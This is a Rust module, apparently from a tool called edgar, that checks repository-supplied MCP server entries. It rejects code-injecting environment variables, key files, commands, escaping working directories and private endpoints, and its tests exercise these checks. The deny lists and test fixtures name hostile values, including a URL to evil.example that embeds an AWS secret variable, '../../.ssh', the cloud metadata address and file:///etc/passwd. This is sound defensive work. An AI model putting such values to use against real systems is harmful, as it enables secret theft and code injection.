//! What a project's `.mcp.json` entry may say. A cloned repository is not the user: its
//! entry may not name a command edgar runs besides the server itself, a key file, an
//! environment variable that changes what runs, a `${VAR}` where the value would decide
//! what runs or where it goes, a working directory outside the project, or an endpoint on
//! this machine's or its private networks. Everything else is shown to a human before it
//! runs (the approval prompt).

use std::path::{Component, Path};

use serde_json::{Map, Value};

/// Environment variables that change which code a program loads or runs (the dynamic
/// linker, interpreters' option and path variables, shells' start-up files, package
/// managers' registries and config), by exact name.
const RUN_CHANGING_ENV: &[&str] = &[
    "PATH",
    "BASH_ENV",
    "ENV",
    "ZDOTDIR",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "IFS",
    "CDPATH",
    "NODE_OPTIONS",
    "NODE_PATH",
    "NODE_EXTRA_CA_CERTS",
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "PERL5DB",
    "RUBYOPT",
    "RUBYLIB",
    "GEM_HOME",
    "GEM_PATH",
    "BUNDLE_GEMFILE",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "JAVA_HOME",
    "GOFLAGS",
    "GOPATH",
    "GOROOT",
    "GOPROXY",
    "CARGO_HOME",
    "RUSTUP_HOME",
    "RUSTC_WRAPPER",
    "DOTNET_STARTUP_HOOKS",
    "HOME",
    "XDG_CONFIG_HOME",
    "XDG_DATA_HOME",
    "XDG_CACHE_HOME",
    "XDG_CONFIG_DIRS",
    "XDG_DATA_DIRS",
    "TMPDIR",
    "GIT_EXEC_PATH",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_SYSTEM",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "BROWSER",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "REQUESTS_CA_BUNDLE",
    "CURL_CA_BUNDLE",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
    "http_proxy",
    "https_proxy",
    "all_proxy",
    "no_proxy",
];

/// Prefixes of the same kind: the dynamic linker (`LD_PRELOAD`, `LD_LIBRARY_PATH`, macOS's
/// `DYLD_*`), Python (`PYTHONPATH`, `PYTHONSTARTUP`, ...), npm, pip, uv, pipx and Deno
/// settings, git's config injection, Lua's and Tcl's paths.
const RUN_CHANGING_PREFIXES: &[&str] = &[
    "LD_",
    "DYLD_",
    "PYTHON",
    "NPM_CONFIG_",
    "npm_config_",
    "YARN_",
    "PNPM_",
    "BUN_",
    "DENO_",
    "PIP_",
    "UV_",
    "PIPX_",
    "POETRY_",
    "CONDA",
    "VIRTUAL_ENV",
    "GIT_CONFIG",
    "LUA_",
    "TCL",
    "MALLOC_",
    "GLIBC_",
    "GCONV_",
];

/// Whether an environment variable, set for a server, changes what code it runs.
pub fn changes_what_runs(key: &str) -> bool {
    RUN_CHANGING_ENV.iter().any(|k| k.eq_ignore_ascii_case(key))
        || RUN_CHANGING_PREFIXES
            .iter()
            .any(|p| key.len() >= p.len() && key[..p.len()].eq_ignore_ascii_case(p))
}

/// Whether `s` has a `${...}` reference.
pub fn has_variable(s: &str) -> bool {
    s.contains("${")
}

/// Why a project entry may not run at all, whatever a human says: the field and the
/// reason. `None` when it may be shown for approval.
pub fn refusal(entry: &Map<String, Value>) -> Option<(String, String)> {
    let refuse = |field: &str, why: &str| Some((field.to_owned(), why.to_owned()));
    // Where it runs and which adapter judges it: a variable there would move the server
    // out of the project, or swap the adapter, after the review. (A variable in the
    // command, its arguments or the URL is shown by name in the review, and its value
    // at approval is part of what the approval covers: `variables`.)
    for key in ["cwd", "adapter", "type", "transport"] {
        if let Some(Value::String(s)) = entry.get(key)
            && has_variable(s)
        {
            return refuse(
                key,
                "a project entry may not use ${VAR} here (it would decide where it runs or what judges it); write the value itself",
            );
        }
    }
    if let Some(Value::Object(env)) = entry.get("env") {
        for key in env.keys() {
            if changes_what_runs(key) {
                return refuse(
                    "env",
                    &format!(
                        "a project entry may not set {}: it changes which code runs (put it in your own config if you mean it)",
                        crate::text::shown(key)
                    ),
                );
            }
        }
    }
    if let Some(Value::String(cwd)) = entry.get("cwd") {
        let p = Path::new(cwd);
        if p.is_absolute() || p.components().any(|c| matches!(c, Component::ParentDir)) {
            return refuse(
                "cwd",
                "a project entry runs inside its project: cwd must be a relative path without `..`",
            );
        }
    }
    if let Some(Value::Object(o)) = entry.get("oauth") {
        for (key, why) in [
            (
                "private_key_file",
                "a project entry may not name a key file for edgar to read and sign with",
            ),
            (
                "private_key",
                "a project entry may not use a key from your credential store",
            ),
        ] {
            if o.get(key).is_some_and(|v| !v.is_null()) {
                return refuse("oauth", &format!("{key}: {why}"));
            }
        }
        if let Some(why) = variable_outside_secret(o, "") {
            return refuse("oauth", &why);
        }
        if let Some(Value::Object(i)) = o.get("identity") {
            if i.get("id_token_command").is_some_and(|v| !v.is_null()) {
                return refuse(
                    "oauth",
                    "identity.id_token_command: a project entry may not name a command for edgar to run (put the identity provider in your own config)",
                );
            }
            if let Some(why) = variable_outside_secret(i, "identity.") {
                return refuse("oauth", &why);
            }
        }
    }
    // Endpoints the entry names (besides the server's own URL, whose traffic the prompt
    // shows) pass the rule discovery applies: no local or private address, unless the
    // server itself is on loopback (local development).
    let server_is_loopback = entry
        .get("url")
        .and_then(Value::as_str)
        .and_then(|u| reqwest::Url::parse(u).ok())
        .is_some_and(|u| crate::net::is_loopback(&u));
    for (field, url) in endpoints(entry) {
        let Ok(parsed) = reqwest::Url::parse(url) else {
            return refuse("oauth", &format!("{field}: not a URL"));
        };
        if !matches!(parsed.scheme(), "https" | "http") {
            return refuse("oauth", &format!("{field}: only http(s) URLs"));
        }
        if crate::net::is_local(&parsed) && !server_is_loopback {
            return refuse(
                "oauth",
                &format!(
                    "{field}: a project entry may not send edgar to a local or private address"
                ),
            );
        }
    }
    None
}

/// The `${NAME}` references of a template, in order, names only.
pub fn variable_names(template: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = template;
    while let Some(i) = rest.find("${") {
        let after = &rest[i + 2..];
        let Some(end) = after.find('}') else { break };
        let name = after[..end].split(":-").next().unwrap_or_default();
        if !out.iter().any(|n| n == name) {
            out.push(name.to_owned());
        }
        rest = &after[end + 1..];
    }
    out
}

/// The variables an entry's command, arguments and URL take from the environment, each
/// with the sha256 of its value now (or "unset"): bound into the approval, so a changed
/// value (a different program, another host) needs a new one. The values themselves are
/// never shown or stored.
pub fn variables(
    entry: &Map<String, Value>,
    env: &dyn Fn(&str) -> Option<String>,
) -> Vec<(String, String)> {
    let mut templates: Vec<&str> = Vec::new();
    for key in ["command", "url"] {
        if let Some(Value::String(s)) = entry.get(key) {
            templates.push(s);
        }
    }
    if let Some(Value::Array(args)) = entry.get("args") {
        templates.extend(args.iter().filter_map(Value::as_str));
    }
    let mut out: Vec<(String, String)> = Vec::new();
    for t in templates {
        for name in variable_names(t) {
            if out.iter().any(|(n, _)| *n == name) {
                continue;
            }
            let value = match env(&name) {
                Some(v) => crate::digest::sha256_hex(v.as_bytes()),
                None => "unset".to_owned(),
            };
            out.push((name, value));
        }
    }
    out
}

/// A sign-in field other than `client_secret` that takes a `${VAR}`: why it is refused.
fn variable_outside_secret(fields: &Map<String, Value>, prefix: &str) -> Option<String> {
    fields.iter().find_map(|(key, v)| {
        (key != "client_secret" && v.as_str().is_some_and(has_variable)).then(|| {
            format!(
                "{prefix}{}: a project entry may not use ${{VAR}} here; write the value itself",
                crate::text::shown(key)
            )
        })
    })
}

/// Every URL an entry names for sign-in, with its field.
pub fn endpoints(entry: &Map<String, Value>) -> Vec<(String, &str)> {
    let mut out = Vec::new();
    if let Some(Value::Object(o)) = entry.get("oauth") {
        for key in ["issuer", "client_metadata_url", "token_endpoint"] {
            if let Some(Value::String(u)) = o.get(key) {
                out.push((format!("oauth.{key}"), u.as_str()));
            }
        }
        if let Some(Value::Object(i)) = o.get("identity")
            && let Some(Value::String(u)) = i.get("token_endpoint")
        {
            out.push(("oauth.identity.token_endpoint".to_owned(), u.as_str()));
        }
    }
    out
}

/// Most bytes of project code hashed for one entry: this runs at every command's config
/// load, so it stays small. A file over it is named "not hashed" in the prompt and the
/// digest, so it is shown, but its changes are not detected.
const MAX_CODE_BYTES: u64 = 16 << 20;

/// A file of the project that an entry runs: its program, or an argument naming a file
/// (or a directory) inside the project. A file's sha256 is part of what an approval
/// covers; a directory is named, not hashed (walking it at every command would make
/// start-up grow with the project).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CodeFile {
    /// Relative to the project directory.
    pub path: String,
    /// sha256 of the file's bytes, or why it was not hashed.
    pub sha256: Result<String, String>,
}

/// The project's own code an entry runs: the program when it lives in the project, and
/// every argument that names an existing file or directory inside it (relative to the
/// entry's `cwd`, or the project). Links are not followed; anything that is not a
/// regular file or a directory is named unreadable.
pub fn code_files(project: &Path, entry: &Map<String, Value>) -> Vec<CodeFile> {
    let Some(command) = entry.get("command").and_then(Value::as_str) else {
        return Vec::new();
    };
    let cwd = match entry.get("cwd").and_then(Value::as_str) {
        Some(c) => project.join(c),
        None => project.to_owned(),
    };
    let args = entry
        .get("args")
        .and_then(Value::as_array)
        .map(|a| a.iter().filter_map(Value::as_str).collect::<Vec<_>>())
        .unwrap_or_default();
    let mut named: Vec<&str> = Vec::with_capacity(args.len() + 1);
    if command.contains('/') {
        named.push(command);
    }
    for a in args {
        // `--flag=path` names a path too.
        named.push(a);
        if let Some((_, v)) = a.split_once('=') {
            named.push(v);
        }
    }
    let mut out: Vec<CodeFile> = Vec::new();
    let mut budget = MAX_CODE_BYTES;
    for n in named {
        let p = cwd.join(n);
        let Some(rel) = inside(project, &p) else {
            continue;
        };
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if out.iter().any(|c| c.path == rel) {
            continue;
        }
        let sha256 = if meta.is_dir() {
            Err("a directory: named, its files not hashed (name the file the server runs to bind it)".into())
        } else if meta.is_file() {
            hash_file(&p, &mut budget)
        } else if meta.file_type().is_symlink() {
            Err("a symbolic link, which edgar does not follow".into())
        } else {
            Err("not a regular file".into())
        };
        out.push(CodeFile { path: rel, sha256 });
    }
    out
}

/// What identifies the project besides its path, so an approval does not carry over to
/// another checkout put at the same path: the directory's device and inode, and the
/// `origin` remote git recorded when it cloned it (from `.git/config`, which git writes,
/// not the repository's content).
pub fn identity(project: &Path) -> Value {
    use std::os::unix::fs::MetadataExt;
    let inode = std::fs::metadata(project)
        .map(|m| format!("{}:{}", m.dev(), m.ino()))
        .ok();
    let origin = crate::paths::read_regular(&project.join(".git").join("config"), 1 << 20)
        .ok()
        .flatten()
        .and_then(|b| origin_url(&String::from_utf8_lossy(&b)));
    serde_json::json!({"inode": inode, "origin": origin})
}

/// The `url` of `[remote "origin"]` in a git config file.
fn origin_url(config: &str) -> Option<String> {
    let mut in_origin = false;
    for line in config.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_origin = line.replace(' ', "") == "[remote\"origin\"]";
        } else if in_origin
            && let Some((k, v)) = line.split_once('=')
            && k.trim() == "url"
        {
            return Some(v.trim().to_owned());
        }
    }
    None
}

/// `p` relative to `project` when it is inside it (lexically: `..` is refused, not
/// resolved, and links are not followed).
fn inside(project: &Path, p: &Path) -> Option<String> {
    let rel = p.strip_prefix(project).ok()?;
    if rel.as_os_str().is_empty()
        || rel
            .components()
            .any(|c| !matches!(c, Component::Normal(_) | Component::CurDir))
    {
        return None;
    }
    Some(rel.display().to_string())
}

fn hash_file(p: &Path, budget: &mut u64) -> Result<String, String> {
    let bytes = crate::paths::read_regular(p, *budget)
        .map_err(|e| e.to_string())?
        .ok_or("it does not exist")?;
    *budget -= bytes.len() as u64;
    Ok(crate::digest::sha256_hex(&bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(text: &str) -> Option<String> {
        let e: Map<String, Value> = serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}"));
        refusal(&e).map(|(f, _)| f)
    }

    #[test]
    fn variables_that_would_move_the_server_or_its_sign_in_are_refused() {
        for (entry, field) in [
            (r#"{"command": "node", "cwd": "${HOME}"}"#, "cwd"),
            (r#"{"command": "node", "cwd": "x/${D}"}"#, "cwd"),
            (
                r#"{"url": "https://a.example/mcp", "oauth": {"scope": "${TOKEN}"}}"#,
                "oauth",
            ),
            (
                r#"{"url": "https://a.example/mcp", "oauth": {"client_metadata_url": "https://x/${K}"}}"#,
                "oauth",
            ),
            (
                r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "https://${H}"}}"#,
                "oauth",
            ),
            (
                r#"{"command": "n", "adapter": "${HOME}/a.wasm"}"#,
                "adapter",
            ),
        ] {
            assert_eq!(refused(entry).as_deref(), Some(field), "{entry}");
        }
        // A variable as an env value or header is what an entry is for; the prompt names it.
        for entry in [
            r#"{"command": "node", "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}}"#,
            r#"{"url": "https://a.example/mcp", "headers": {"Authorization": "Bearer ${T}"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "https://a.example", "client_secret": "${S}"}}"#,
            // In what runs or is contacted: shown by name and bound by value instead.
            r#"{"command": "${SHELL}"}"#,
            r#"{"command": "node", "args": ["--token=${GITHUB_TOKEN}"]}"#,
            r#"{"url": "https://evil.example/${AWS_SECRET_ACCESS_KEY}"}"#,
        ] {
            assert_eq!(refused(entry), None, "{entry}");
        }
    }

    #[test]
    fn variables_in_what_runs_are_bound_by_their_value_and_never_kept() {
        let e: Map<String, Value> = serde_json::from_str(
            r#"{"command": "${TOOL:-node}", "args": ["--token=${GITHUB_TOKEN}", "${HOME}/x", "${TOOL}"]}"#,
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let env_a = |k: &str| match k {
            "GITHUB_TOKEN" => Some("ghp_secret".to_owned()),
            "HOME" => Some("/home/a".to_owned()),
            _ => None,
        };
        let env_b = |k: &str| match k {
            "GITHUB_TOKEN" => Some("ghp_other".to_owned()),
            "HOME" => Some("/home/a".to_owned()),
            _ => None,
        };
        let a = variables(&e, &env_a);
        let names: Vec<&str> = a.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, ["TOOL", "GITHUB_TOKEN", "HOME"]);
        assert_eq!(a[0].1, "unset");
        assert!(
            !format!("{a:?}").contains("ghp_secret"),
            "values are never kept"
        );
        assert_ne!(
            a,
            variables(&e, &env_b),
            "another value is another approval"
        );
        assert_eq!(
            refusal(&e),
            None,
            "shown by name in the review, not refused"
        );
    }

    #[test]
    fn environment_that_changes_what_runs_is_refused_in_any_spelling() {
        for key in [
            "PATH",
            "path",
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "DYLD_INSERT_LIBRARIES",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "BASH_ENV",
            "ENV",
            "PERL5OPT",
            "RUBYOPT",
            "JAVA_TOOL_OPTIONS",
            "npm_config_registry",
            "NPM_CONFIG_PREFIX",
            "UV_INDEX_URL",
            "PIP_INDEX_URL",
            "GIT_CONFIG_COUNT",
            "HOME",
        ] {
            let entry = format!(r#"{{"command": "node", "env": {{"{key}": "x"}}}}"#);
            assert_eq!(refused(&entry).as_deref(), Some("env"), "{key}");
        }
        for key in ["GITHUB_TOKEN", "LOG_LEVEL", "DEBUG", "API_URL"] {
            let entry = format!(r#"{{"command": "node", "env": {{"{key}": "x"}}}}"#);
            assert_eq!(refused(&entry), None, "{key}");
        }
    }

    #[test]
    fn commands_key_files_outside_directories_and_local_endpoints_are_refused() {
        for entry in [
            r#"{"url": "https://a.example/mcp", "oauth": {"private_key_file": "k.pem", "client_id": "c"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"private_key": "store", "client_id": "c"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"grant": "cross_app_access", "client_id": "c", "identity": {"token_endpoint": "https://idp.example/t", "client_id": "i", "id_token_command": "cat /x"}}}"#,
            r#"{"command": "node", "cwd": "/etc"}"#,
            r#"{"command": "node", "cwd": "../../.ssh"}"#,
            r#"{"command": "node", "cwd": "a/../../b"}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "http://169.254.169.254/latest"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "http://127.0.0.1:8080"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"client_metadata_url": "https://10.0.0.1/c"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "http://[::ffff:127.0.0.1]/"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "http://localhost./"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "file:///etc/passwd"}}"#,
        ] {
            assert!(refused(entry).is_some(), "{entry}");
        }
        for entry in [
            r#"{"command": "node", "cwd": "server"}"#,
            r#"{"url": "http://127.0.0.1:9/mcp", "oauth": {"issuer": "http://127.0.0.1:9"}}"#,
            r#"{"url": "https://a.example/mcp", "oauth": {"issuer": "https://auth.a.example"}}"#,
        ] {
            assert_eq!(refused(entry), None, "{entry}");
        }
    }
}
